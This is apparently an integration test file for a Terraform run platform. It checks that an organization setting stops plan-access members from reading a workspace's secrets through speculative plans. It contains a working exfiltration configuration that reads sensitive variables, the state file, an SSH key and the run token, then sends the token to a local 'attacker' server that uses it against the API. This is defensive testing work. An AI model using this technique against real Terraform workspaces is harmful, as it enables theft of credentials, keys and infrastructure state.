import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { api, doc, expectError, okBody } from '../helpers/api.js';
import { harness } from '../helpers/harness.js';
import {
  createCv,
  createOrg,
  createWorkspace,
  memberWithAccess,
  putArchive,
  tarGz,
  uniq,
  type TestUser,
} from '../helpers/fixtures.js';
import { readWholeLog } from '../helpers/module-tests.js';
import { listenForSandboxes } from '../helpers/sandbox.js';
import { startRun, terraformWorkers, uploadConfig, waitForRun } from '../helpers/terraform.js';

const FINAL = ['planned', 'planned_and_finished', 'applied', 'errored', 'canceled', 'discarded'];

const PASSWORD = `pw-${uniq('sensitive')}`;
const ENV_SECRET = `env-${uniq('sensitive')}`;
const STATE_MARKER = `state-${uniq('marker')}`;

/** What the owner applies first: a state holding a sensitive output, which plan access cannot read through the API. */
const OWNER_TF = `
resource "terraform_data" "kept" {
  input = "kept"
}

output "kept" {
  value     = "${STATE_MARKER}"
  sensitive = true
}
`;

/**
 * The configuration a member with plan access writes to read what the workspace holds: its
 * sensitive variables (nonsensitive), the state file and SSH key in the run's directory, and the
 * run's token from its CLI configuration, which it sends to a server of its own while the plan waits
 * for the answer (terraform_remote_state over http, which Terraform has built in).
 */
const attackTf = (exfil: string) => `
variable "password" {
  type      = string
  sensitive = true
  default   = "no-password-given"
}

variable "env_secret" {
  type    = string
  default = "no-env-secret-given"
}

locals {
  cli   = try(file("../cli.tfrc"), "")
  token = try(regex("token = \\"([^\\"]+)\\"", local.cli)[0], "no-token")
}

data "terraform_remote_state" "exfil" {
  backend = "http"
  config = {
    address = "${exfil}/steal?token=\${urlencode(local.token)}"
  }
}

output "password" {
  value = nonsensitive(var.password)
}

output "env_secret" {
  value = var.env_secret
}

output "state" {
  value = try(file("zz_rls_state.tfstate"), "no-state-file")
}

output "ssh" {
  value = try(file("../ssh/id_key"), "no-ssh-key")
}
`;

/** A configuration whose sensitive variable has no default: it needs the workspace's value. */
const REQUIRED_TF = `
variable "password" {
  type      = string
  sensitive = true
}

output "length" {
  value = length(var.password)
}
`;

/** What the token a plan sent to the exfiltration server could read, used while the plan waited. */
interface Stolen {
  token: string;
  /** The answer's status to the workspace's current state version, and the state it led to. */
  stateVersion: number;
  state: string;
  /** The answers' statuses to the workspace by name and its current outputs. */
  others: number[];
  /** The registry's answer to a module that does not exist (its detail tells a refused token from an allowed one). */
  registry: string;
}

/**
 * The attacker's server: it receives the run's token, uses it at once against the API (the
 * workspace's current state version and its download), and then answers as a state backend.
 */
async function startExfilServer(
  target: () => { org: string; ws: { id: string; name: string } },
): Promise<{ url: string; stolen: Stolen[]; close(): Promise<void> }> {
  const stolen: Stolen[] = [];
  const h = harness();
  const server: Server = createServer((req, res) => {
    void (async () => {
      const token = new URL(req.url ?? '/', 'http://x').searchParams.get('token') ?? '';
      const { org, ws } = target();
      const current = await api('GET', `/workspaces/${ws.id}/current-state-version`, { token });
      let state = '';
      const download =
        current.status === 200 ? (current.body.data.attributes['hosted-state-download-url'] as string | null) : null;
      // The download URL names the API as runs reach it; the tests reach it on loopback.
      if (download) state = await (await fetch(h.baseUrl + download.slice(h.config.runApiUrl.length))).text();
      const others = await Promise.all(
        [`/organizations/${org}/workspaces/${ws.name}`, `/workspaces/${ws.id}/current-state-version-outputs`].map(
          async (path) => (await api('GET', path, { token })).status,
        ),
      );
      const registry = await (
        await fetch(`${h.baseUrl}/api/registry/v1/modules/${org}/absent/null/versions`, {
          headers: { Authorization: `Bearer ${token}` },
        })
      ).text();
      stolen.push({ token, stateVersion: current.status, state, others, registry });
      res.setHeader('Content-Type', 'application/json');
      res.end(
        JSON.stringify({
          version: 4,
          terraform_version: '1.11.4',
          serial: 1,
          lineage: 'exfil',
          outputs: {},
          resources: [],
        }),
      );
    })().catch(() => {
      res.statusCode = 500;
      res.end();
    });
  });
  const url = await listenForSandboxes(server);
  return {
    url,
    stolen,
    async close() {
      server.closeAllConnections();
      await new Promise<void>((r) => server.close(() => r()));
    },
  };
}

/** A key pair made by ssh-keygen: the private key's text. */
async function privateKey(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'rls-sshkey-'));
  try {
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'rls-test', '-f', join(dir, 'key')]);
    return await readFile(join(dir, 'key'), 'utf8');
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

describe("plan access and a workspace's secrets (speculative-runs-withhold-secrets)", function () {
  this.timeout(300_000);
  terraformWorkers(['run-pipeline']);

  let org: { name: string; owner: TestUser };
  let ws: { id: string; name: string };
  let planner: TestUser;
  let writer: TestUser;
  let exfil: Awaited<ReturnType<typeof startExfilServer>>;

  const setting = async (on: boolean) => {
    const body = await okBody(
      'PATCH',
      `/organizations/${org.name}`,
      org.owner.token,
      doc('organizations', { 'speculative-runs-withhold-secrets': on }),
    );
    expect(body.data.attributes['speculative-runs-withhold-secrets']).to.equal(on);
  };

  /** A speculative run of `files`, queued through the API by `member` as the CLI's speculative plan does; its end, log and what its token could read. */
  async function speculativePlan(member: TestUser, files: Record<string, string>) {
    const before = exfil.stolen.length;
    const cvId = await uploadConfig(ws.id, member.token, files, { speculative: true });
    const runId = await startRun(ws.id, member.token, { 'plan-only': true }, cvId);
    const run = await waitForRun(runId, member.token, FINAL, 240_000);
    const withPlan = await api('GET', `/runs/${runId}?include=plan`, { token: member.token });
    const plan = withPlan.body.included.find((r: { type: string }) => r.type === 'plans');
    const log = await readWholeLog(plan.attributes['log-read-url']);
    return { runId, status: run.attributes.status as string, log, stolen: exfil.stolen.slice(before) };
  }

  before(async () => {
    org = await createOrg();
    ws = await createWorkspace(org, { 'auto-apply': true });
    exfil = await startExfilServer(() => ({ org: org.name, ws }));
    const owner = org.owner.token;
    await okBody(
      'POST',
      `/workspaces/${ws.id}/vars`,
      owner,
      doc('vars', { key: 'password', value: PASSWORD, category: 'terraform', sensitive: true }),
    );
    await okBody(
      'POST',
      `/workspaces/${ws.id}/vars`,
      owner,
      doc('vars', { key: 'TF_VAR_env_secret', value: ENV_SECRET, category: 'env', sensitive: true }),
    );
    const key = await okBody(
      'POST',
      `/organizations/${org.name}/ssh-keys`,
      owner,
      doc('ssh-keys', { name: uniq('key'), value: await privateKey() }),
    );
    const assigned = await api('PATCH', `/workspaces/${ws.id}/relationships/ssh-key`, {
      token: owner,
      body: { data: { type: 'workspaces', attributes: { id: key.data.id } } },
    });
    expect(assigned.status, assigned.text).to.equal(200);
    // The workspace's state, applied by its owner.
    await uploadConfig(ws.id, owner, { 'main.tf': OWNER_TF });
    const applied = await waitForRun(await startRun(ws.id, owner), owner, FINAL, 240_000);
    expect(applied.attributes.status).to.equal('applied');
    planner = await memberWithAccess(org, ws.id, 'plan');
    writer = await memberWithAccess(org, ws.id, 'write');
  });
  after(async () => {
    await exfil?.close();
  });

  it('is off by default, set by owners through PATCH /organizations/:name and read back in its attributes; others may not set it', async () => {
    const read = await okBody('GET', `/organizations/${org.name}`, org.owner.token);
    expect(read.data.attributes['speculative-runs-withhold-secrets']).to.equal(false);
    expectError(
      await api('PATCH', `/organizations/${org.name}`, {
        token: writer.token,
        body: doc('organizations', { 'speculative-runs-withhold-secrets': true }),
      }),
      404,
    );
    expectError(
      await api('PATCH', `/organizations/${org.name}`, {
        token: org.owner.token,
        body: doc('organizations', { 'speculative-runs-withhold-secrets': 'yes' }),
      }),
      422,
    );
    await setting(true);
    expect(
      (await okBody('GET', `/organizations/${org.name}`, planner.token)).data.attributes[
        'speculative-runs-withhold-secrets'
      ],
    ).to.equal(true);
    await setting(false);
    expect(
      (await okBody('GET', `/organizations/${org.name}`, org.owner.token)).data.attributes[
        'speculative-runs-withhold-secrets'
      ],
    ).to.equal(false);
  });

  it("with the setting off, plan access reads the workspace's sensitive variables, its state, its SSH key and a run token that reads the state, through a speculative plan of its own configuration (as in TFE)", async () => {
    // What plan access may not read through the API: the whole state, and its sensitive output's value.
    const own = await okBody('GET', `/workspaces/${ws.id}/current-state-version?include=outputs`, planner.token);
    expect(own.data.attributes['hosted-state-download-url']).to.equal(null);
    expect(
      own.included.find((o: { attributes: { name: string } }) => o.attributes.name === 'kept').attributes.value,
    ).to.equal(null);
    const { status, log, stolen } = await speculativePlan(planner, { 'main.tf': attackTf(exfil.url) });
    expect(status, log).to.equal('planned_and_finished');
    expect(log).to.include(PASSWORD);
    expect(log).to.include(ENV_SECRET);
    expect(log, 'the state file').to.include(STATE_MARKER);
    expect(log, 'the SSH key').to.include('OPENSSH PRIVATE KEY');
    expect(log).to.not.include("Secrets withheld by the organization's setting");
    expect(stolen, 'the plan sent its token out').to.have.length(1);
    expect(stolen[0].stateVersion, 'the run token reads the current state version').to.equal(200);
    expect(stolen[0].state).to.include(STATE_MARKER);
    expect(stolen[0].others).to.deep.equal([200, 200]);
  });

  it('with the setting on, the same plan shows no sensitive value, no state file and no SSH key, and its run token is refused by the API; its log says so in one line', async () => {
    await setting(true);
    const { status, log, stolen } = await speculativePlan(planner, { 'main.tf': attackTf(exfil.url) });
    expect(status, log).to.equal('planned_and_finished');
    for (const secret of [PASSWORD, ENV_SECRET, STATE_MARKER, 'OPENSSH PRIVATE KEY'])
      expect(log).to.not.include(secret);
    expect(log).to.match(/password\s+= "no-password-given"/);
    expect(log).to.match(/env_secret\s+= "no-env-secret-given"/);
    // Terraform's local backend may leave an empty file where it locks the state; nothing is in it.
    expect(log).to.match(/state\s+= "(no-state-file)?"\n/);
    expect(log).to.match(/ssh\s+= "no-ssh-key"/);
    const lines = log
      .split('\n')
      .filter((l) => l.includes("Secrets withheld by the organization's setting (speculative-runs-withhold-secrets)"));
    expect(lines, log).to.have.length(1);
    expect(lines[0]).to.match(
      /Sensitive variables not given: (password, TF_VAR_env_secret|TF_VAR_env_secret, password)\./,
    );
    expect(stolen, 'the plan still sent its token out').to.have.length(1);
    expect(stolen[0].token).to.match(/\.atlasv1\./);
    expect(stolen[0].stateVersion, 'the run token is refused').to.equal(404);
    expect(stolen[0].state).to.equal('');
    expect(stolen[0].others, 'the workspace by name, its outputs').to.deep.equal([404, 404]);
    // The module registry of its organization, which every member reads with their own token, still answers it (init installs private modules).
    expect(stolen[0].registry).to.include('module not found');
  });

  it('with the setting on, a sensitive variable the configuration requires is not given: the plan fails as when it is not set', async () => {
    const { status, log } = await speculativePlan(planner, { 'main.tf': REQUIRED_TF });
    expect(status, log).to.equal('errored');
    expect(log).to.match(/No value for required variable/);
    expect(log).to.include("Secrets withheld by the organization's setting");
    expect(log).to.not.include(PASSWORD);
  });

  it("with the setting on, the run that the upload of a plan-access member's configuration version queues withholds them too", async () => {
    const cv = await createCv(ws.id, planner.token, { 'auto-queue-runs': true });
    expect(cv.body.data.attributes.speculative).to.equal(true);
    const put = await putArchive(cv.uploadUrl, await tarGz({ 'main.tf': attackTf(exfil.url) }));
    expect(put.status, put.text).to.equal(200);
    const before = exfil.stolen.length;
    const runs = await okBody('GET', `/workspaces/${ws.id}/runs`, planner.token);
    const queued = runs.data.find(
      (r: { relationships: { 'configuration-version': { data: { id: string } } } }) =>
        r.relationships['configuration-version'].data.id === cv.id,
    );
    expect(queued, 'the upload queued a run').to.not.equal(undefined);
    const run = await waitForRun(queued.id, planner.token, FINAL, 240_000);
    const withPlan = await api('GET', `/runs/${queued.id}?include=plan`, { token: planner.token });
    const log = await readWholeLog(
      withPlan.body.included.find((r: { type: string }) => r.type === 'plans').attributes['log-read-url'],
    );
    expect(run.attributes.status, log).to.equal('planned_and_finished');
    for (const secret of [PASSWORD, ENV_SECRET, STATE_MARKER, 'OPENSSH PRIVATE KEY'])
      expect(log).to.not.include(secret);
    expect(log).to.include("Secrets withheld by the organization's setting");
    const stolen = exfil.stolen.slice(before);
    expect(stolen).to.have.length(1);
    expect(stolen[0].stateVersion).to.equal(404);
  });

  it("with the setting on, a write-access member's speculative plan still gets everything", async () => {
    const { status, log, stolen } = await speculativePlan(writer, { 'main.tf': attackTf(exfil.url) });
    expect(status, log).to.equal('planned_and_finished');
    expect(log).to.include(PASSWORD);
    expect(log).to.include(ENV_SECRET);
    expect(log).to.include(STATE_MARKER);
    expect(log).to.include('OPENSSH PRIVATE KEY');
    expect(log).to.not.include("Secrets withheld by the organization's setting");
    expect(stolen).to.have.length(1);
    expect(stolen[0].stateVersion).to.equal(200);
  });
});
